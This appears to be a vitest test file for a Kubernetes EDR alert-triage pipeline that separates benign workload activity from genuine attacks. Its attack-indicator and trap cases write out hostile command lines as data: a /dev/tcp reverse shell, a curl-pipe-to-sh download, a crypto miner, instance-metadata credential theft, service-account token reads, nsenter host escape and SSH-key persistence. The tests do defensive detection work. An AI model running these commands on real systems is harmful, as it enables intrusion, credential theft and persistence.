import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { buildIndex } from '../../../src/cluster/index.js';
import { alert, containerIdOf, indexOf, node, owner, pod, snapshot } from '../../support/cluster.js';

const N1 = 'node-a';
const N2 = 'node-b';
const shim = { name: 'containerd-shim-runc-v2', commandLine: '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 0123' };

const payments = pod('payments-7d4b-aaaaa', {
  namespace: 'shop',
  node: N1,
  ip: '10.0.1.5',
  owner: { kind: 'ReplicaSet', name: 'payments-7d4b' },
  containers: [{ name: 'gateway', image: 'registry.example/payments:4.2.0', command: ['/app/payments-gateway'], args: ['--listen', ':8443'] }],
  statuses: [{ restartCount: 44, lastState: { terminated: { exitCode: 137, reason: 'Error' } }, state: { waiting: { reason: 'CrashLoopBackOff' } } }],
});
const checkout = pod('checkout-1', {
  namespace: 'shop',
  node: N2,
  ip: '10.0.2.7',
  containers: [
    {
      name: 'checkout',
      image: 'registry.example/checkout:1.0',
      command: ['java', '-jar', '/app/checkout.jar'],
      ports: [{ containerPort: 8080 }],
      livenessProbe: { exec: { command: ['sh', '-c', 'curl -fsS localhost:8080/health'] } },
      readinessProbe: { httpGet: { path: '/ready', port: 8081 } },
    },
  ],
  statuses: [{ restartCount: 5, lastState: { terminated: { exitCode: 137, reason: 'OOMKilled' } } }],
});
const web = pod('web-1', { namespace: 'shop', node: N1, ip: '10.0.1.9', labels: { app: 'web' }, containers: [{ name: 'web', image: 'nginx', command: ['nginx'] }] });
const logShipper = pod('log-shipper-1', {
  namespace: 'legacy',
  node: N1,
  containers: [
    {
      name: 'log-shipper',
      image: 'registry.example/log-shipper:1.4',
      command: ['log-shipper'],
      args: ['--paths=/var/log/messages,/var/log/secure'],
      securityContext: { privileged: true, runAsUser: 0 },
      volumeMounts: [{ name: 'varlog', mountPath: '/var/log' }],
    },
  ],
  volumes: [{ name: 'varlog', hostPath: { path: '/var/log' } }],
});
const svc = { apiVersion: 'v1', kind: 'Service', metadata: { name: 'checkout', namespace: 'shop' }, spec: { selector: { app: 'checkout' }, clusterIP: '172.20.0.50' } };
checkout.metadata.labels = { app: 'checkout' };
const backoff = { apiVersion: 'v1', kind: 'Event', metadata: { name: 'payments.1', namespace: 'shop' }, involvedObject: { kind: 'Pod', name: payments.metadata.name, namespace: 'shop' }, reason: 'BackOff', message: 'Back-off restarting failed container' };
const index = indexOf([node(N1, '10.0.1.10'), node(N2, '10.0.2.20'), owner('ReplicaSet', 'payments-7d4b', 'shop', { kind: 'Deployment', name: 'payments' }), owner('Deployment', 'payments', 'shop'), payments, checkout, web, logShipper, svc, backoff]);

describe('ping-pong', () => {
  it('recognises the EDR killing an entrypoint that Kubernetes keeps restarting', () => {
    const r = triageAlert(alert({ host: N1, action: 'killed', process: { name: 'payments-gateway', commandLine: '/app/payments-gateway --listen :8443' }, ancestors: [shim] }), { index });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'ping-pong' });
    expect(r.verdict.reasons[0].message).toMatch(/restartCount 44/);
    expect(r.correlation.subject.workload).toMatchObject({ kind: 'Deployment', name: 'payments' });
  });
  it('trap: restarts caused by OOMKilled are not a kill-restart loop', () => {
    const r = triageAlert(alert({ host: N2, action: 'killed', process: { name: 'java', commandLine: 'java -jar /app/checkout.jar' }, ancestors: [shim] }), { index });
    expect(r.verdict.cause).not.toBe('ping-pong');
  });
  it('a blocked child of the entrypoint whose container dies with 137 and restarts: the same loop, medium', () => {
    const r = triageAlert(alert({ host: N1, action: 'blocked', process: { name: 'helper', commandLine: '/app/helper --probe' }, ancestors: [{ name: 'payments-gateway', commandLine: '/app/payments-gateway --listen :8443' }, shim] }), { index });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'ping-pong' });
    expect(r.verdict.reasons[0]).toMatchObject({ strength: 'medium' });
    expect(r.verdict.reasons[0].message).toMatch(/a child of the entrypoint/);
  });
  it('trap: a grandchild or an unrelated process killed in that pod is no loop', () => {
    const r = triageAlert(alert({ host: N1, action: 'killed', process: { name: 'nc', commandLine: 'nc 203.0.113.9 4444' }, ancestors: [{ name: 'sh', commandLine: 'sh' }, { name: 'payments-gateway', commandLine: '/app/payments-gateway --listen :8443' }] }), { index });
    expect(r.verdict.cause).not.toBe('ping-pong');
  });
  it('trap: a detection without a kill is not ping-pong', () => {
    const r = triageAlert(alert({ host: N1, action: 'detected', process: { name: 'payments-gateway', commandLine: '/app/payments-gateway --listen :8443' }, ancestors: [shim] }), { index });
    expect(r.verdict.cause).toBe('workload-baseline');
  });
});

describe('workload-baseline', () => {
  it('explains an exec liveness probe run by the runtime', () => {
    const r = triageAlert(alert({ host: N2, process: { name: 'sh', commandLine: 'sh -c curl -fsS localhost:8080/health' }, ancestors: [{ name: 'runc', commandLine: 'runc exec' }] }), { index });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
    expect(r.verdict.reasons[0].message).toContain('livenessProbe');
  });
  it('explains the kubelet calling an httpGet probe of a pod on its own node', () => {
    const r = triageAlert(alert({ network: { srcIp: '10.0.2.20', dstIp: '10.0.2.7', dstPort: 8081, userAgent: 'kube-probe/1.30' } }), { index });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('explains pod-to-pod traffic to a Service backend in the same namespace', () => {
    const r = triageAlert(alert({ network: { srcIp: '10.0.1.9', dstIp: '10.0.2.7', dstPort: 8080 } }), { index });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: a spec is not a licence — a download-and-execute child of the entrypoint stays genuine', () => {
    const r = triageAlert(alert({ host: N2, process: { name: 'sh', commandLine: 'sh -c curl -fsSL http://203.0.113.9/k.sh | sh' }, ancestors: [{ name: 'java', commandLine: 'java -jar /app/checkout.jar' }] }), { index });
    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: an alert before its pod existed is not explained by that pod', () => {
    const late = pod('late-1', { namespace: 'shop', node: N1, ip: '10.0.1.77', created: '2026-01-01T12:30:00Z', containers: [{ name: 'x', image: 'nginx', command: ['nginx'] }] });
    const idx = indexOf([node(N1, '10.0.1.10'), late]);
    const r = triageAlert(alert({ time: '2026-01-01T12:00:00Z', network: { srcIp: '10.0.1.77', dstIp: '10.0.1.10', dstPort: 10250 } }), { index: idx });
    expect(r.correlation.subject.pod).toBeUndefined();
    expect(r.verdict.label).toBe('genuine');
  });
});

describe('privileged-root', () => {
  it('explains a privileged container reading a host log its own arguments name', () => {
    const r = triageAlert(
      alert({ host: N1, title: 'Read sensitive file untrusted', process: { name: 'log-shipper', commandLine: 'log-shipper --paths=/var/log/messages,/var/log/secure' }, file: '/var/log/secure', container: { id: containerIdOf(logShipper) } }),
      { index },
    );
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'privileged-root' });
  });
  it('trap: a real escape from a privileged pod stays genuine', () => {
    const r = triageAlert(alert({ host: N1, title: 'Mount Launched in Privileged Container', process: { name: 'mount', commandLine: 'mount /dev/nvme0n1p1 /host' }, container: { id: containerIdOf(logShipper) } }), { index });
    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe('attack indicators', () => {
  it.each([
    ['bash -i >& /dev/tcp/203.0.113.45/4444 0>&1', 'reverse-shell'],
    ['/tmp/.x/xmrig -o stratum+tcp://pool.example:3333', 'crypto-miner'],
    ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role', 'instance-metadata-credentials'],
    ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'service-account-token'],
    ['nsenter -t 1 -m -u -i -n -p -- bash', 'host-namespace-entry'],
    ['nmap -sS 10.0.0.0/24', 'recon-tool'],
  ])('%s is %s and never dismissed, even from an application entrypoint', (cmd, indicator) => {
    const r = triageAlert(alert({ host: N2, process: { name: cmd.split(' ')[0], commandLine: cmd }, ancestors: [{ name: 'java', commandLine: 'java -jar /app/checkout.jar' }] }), { index });
    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(r.verdict.reasons.some((e) => e.rule === 'attack-indicators')).toBe(true);
    expect(JSON.stringify(r.verdict.reasons)).toContain(indicator === 'crypto-miner' ? 'miner' : '');
  });
  it('does not mistake a localhost /dev/tcp health check or an IR tarball in /tmp for an attack', () => {
    for (const cmd of ['bash -c "echo > /dev/tcp/127.0.0.1/8080"', 'tar czf /tmp/ir.tgz /etc/cron.d']) {
      const r = triageAlert(alert({ host: N2, process: { name: 'bash', commandLine: cmd } }), { index });
      expect(r.verdict.cause).not.toBe('attack');
    }
  });
});

describe('attack indicators: benign paths that look hidden', () => {
  it.each(['/app/node_modules/.bin/next start', '/app/.venv/bin/python -m app', '/home/dev/.local/bin/uvicorn main:app'])('%s is not an executable hidden by an attacker', (cmd) => {
    const r = triageAlert(alert({ host: N2, process: { name: cmd.split(' ')[0].split('/').pop(), path: cmd.split(' ')[0], commandLine: cmd } }), { index });
    expect(r.verdict.reasons.filter((e) => e.rule === 'attack-indicators')).toEqual([]);
  });
  it('but a binary in a hidden cache directory is', () => {
    const r = triageAlert(alert({ host: N2, process: { name: 'kworker', path: '/var/tmp/.cache/kworker', commandLine: '/var/tmp/.cache/kworker' } }), { index });
    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe('attack indicators: persistence and injected shells', () => {
  it('a shell started by a database server is command injection', () => {
    const r = triageAlert(alert({ host: N2, process: { name: 'sh', commandLine: 'sh -c id' }, ancestors: [{ name: 'redis-server', commandLine: 'redis-server *:6379' }] }), { index });
    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('an SSH key appended to authorized_keys is persistence', () => {
    const r = triageAlert(alert({ host: N2, process: { name: 'sh', commandLine: 'sh -c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys' } }), { index });
    expect(r.verdict.reasons.map((e) => e.message).join(' ')).toMatch(/T1098\.004/);
  });
});

describe('workload-baseline: a step of the entrypoint script, reported by executable only', () => {
  const backup = pod('orders-db-backup-30378915-hpt87', {
    namespace: 'shop',
    node: N1,
    owner: { kind: 'Job', name: 'orders-db-backup-30378915' },
    containers: [{ name: 'pg-backup', image: 'registry.example/pg-backup:16', command: ['/bin/sh', '-c', 'pg_dump --host=orders-db orders | aws s3 cp - s3://backups/orders.dump'] }],
  });
  const idx = indexOf([node(N1, '10.0.0.1'), owner('Job', 'orders-db-backup-30378915', 'shop', { kind: 'CronJob', name: 'orders-db-backup' }), owner('CronJob', 'orders-db-backup', 'shop'), backup]);
  const exe = (name: string, path: string, parent: string) =>
    alert({ host: N1, process: { name, path }, ancestors: [{ name: parent, path: `/bin/${parent}` }], container: { id: containerIdOf(backup) } });

  it('explains the aws CLI started by the shell of a CronJob whose script pipes into `aws s3 cp`', () => {
    const r = triageAlert(exe('aws', '/usr/local/aws-cli/v2/current/dist/aws', 'sh'), { index: idx });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: a program the script does not run stays unexplained', () => {
    const r = triageAlert(exe('nc', '/usr/bin/nc', 'sh'), { index: idx });
    expect(r.verdict.label).toBe('genuine');
  });
  it('trap: the script program started by something other than its shell is not the script', () => {
    const r = triageAlert(exe('aws', '/usr/local/aws-cli/v2/current/dist/aws', 'python3'), { index: idx });
    expect(r.verdict.label).toBe('genuine');
  });
});

describe('workload-baseline: a hand-made bare pod is no baseline', () => {
  const command = ['/bin/sh', '-c', 'pg_dump --host=orders-db orders | aws s3 cp - s3://backups/orders.dump'];
  const manual = pod('orders-db-backup-manual', { namespace: 'shop', node: N1, created: '2026-01-01T11:59:00Z', containers: [{ name: 'pg-backup', image: 'registry.example/pg-backup:16', command }] });
  const created = { time: '2026-01-01T11:59:00.000Z', user: 'arn:aws:sts::735204168891:assumed-role/Developer/kpatel', groups: ['system:authenticated'], verb: 'create', resource: 'pods', namespace: 'shop', name: 'orders-db-backup-manual', sourceIps: ['192.0.2.10'], code: 201 };
  const upload = () =>
    alert({
      host: N1,
      process: { name: 'aws', commandLine: 'aws s3 cp - s3://backups/orders.dump' },
      ancestors: [{ name: 'sh', commandLine: command.join(' ') }],
      container: { id: containerIdOf(manual) },
    });

  it('trap: the command of a pod a person created by hand minutes before stays genuine', () => {
    const s = snapshot([node(N1, '10.0.0.1'), manual]);
    s.auditActivities = [created];
    const r = triageAlert(upload(), { index: buildIndex([s]) });
    expect(r.verdict.label).toBe('genuine');
    expect(r.verdict.reasons.map((e) => e.message).join(' ')).toMatch(/created it by hand/);
  });
  it('without an audit record of who made it, a bare pod keeps its spec as the baseline', () => {
    const r = triageAlert(upload(), { index: indexOf([node(N1, '10.0.0.1'), manual]) });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
});

describe("workload-baseline: the story of a network component's own work is node networking", () => {
  const agent = { name: 'cilium-agent', image: 'quay.io/cilium/cilium:v1.16.5', command: ['cilium-agent'], args: ['--config-dir=/tmp/cilium/config-map'] };
  const cilium = pod('cilium-q8w4f', { namespace: 'kube-system', node: N1, hostNetwork: true, owner: { kind: 'DaemonSet', name: 'cilium' }, containers: [agent] });
  const lookAlike = pod('bpf-tools-5d9c-x2x2x', { namespace: 'default', node: N1, owner: { kind: 'ReplicaSet', name: 'bpf-tools-5d9c' }, containers: [agent] });
  const meshed = pod('orders-api-7f-abcde', {
    namespace: 'shop',
    node: N1,
    owner: { kind: 'ReplicaSet', name: 'orders-api-7f' },
    containers: [
      { name: 'api', image: 'registry.example/orders-api:3.1', command: ['/app/orders-api'] },
      { name: 'istio-proxy', image: 'docker.io/istio/proxyv2:1.23.2', args: ['proxy', 'sidecar'] },
    ],
  });
  const idx = indexOf([
    node(N1, '10.0.0.1'),
    owner('DaemonSet', 'cilium', 'kube-system'),
    owner('ReplicaSet', 'bpf-tools-5d9c', 'default', { kind: 'Deployment', name: 'bpf-tools' }),
    owner('Deployment', 'bpf-tools', 'default'),
    owner('ReplicaSet', 'orders-api-7f', 'shop', { kind: 'Deployment', name: 'orders-api' }),
    owner('Deployment', 'orders-api', 'shop'),
    cilium,
    lookAlike,
    meshed,
  ]);
  const compile = 'clang -O2 --target=bpf -std=gnu99 -nostdinc -c /var/lib/cilium/bpf/bpf_lxc.c -o /var/run/cilium/state/bpf_lxc.o';
  const childOf = (p: typeof cilium, cmd: string, parent: string) =>
    alert({ host: N1, process: { name: cmd.split(' ')[0], commandLine: cmd }, ancestors: [{ name: parent.split(' ')[0], commandLine: parent }], container: { id: containerIdOf(p) } });

  it('a child of the Cilium agent (DaemonSet kube-system/cilium) compiling its BPF programs', () => {
    const r = triageAlert(childOf(cilium, compile, 'cilium-agent --config-dir=/tmp/cilium/config-map'), { index: idx });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
    expect(r.verdict.reasons.find((e) => e.rule === 'workload-baseline')?.cause).toBe('node-networking');
  });
  it('trap: the same image in a Deployment of another namespace is matched by its image only: its baseline stays a workload baseline', () => {
    const e = triageAlert(childOf(lookAlike, compile, 'cilium-agent --config-dir=/tmp/cilium/config-map'), { index: idx }).verdict.reasons.find((r) => r.rule === 'workload-baseline');
    expect(e?.cause).toBe('workload-baseline');
  });
  it('trap: an application container beside a mesh sidecar is the application, not the mesh', () => {
    const r = triageAlert(childOf(meshed, '/usr/bin/convert /tmp/in.pdf /tmp/out.png', '/app/orders-api'), { index: idx });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
});
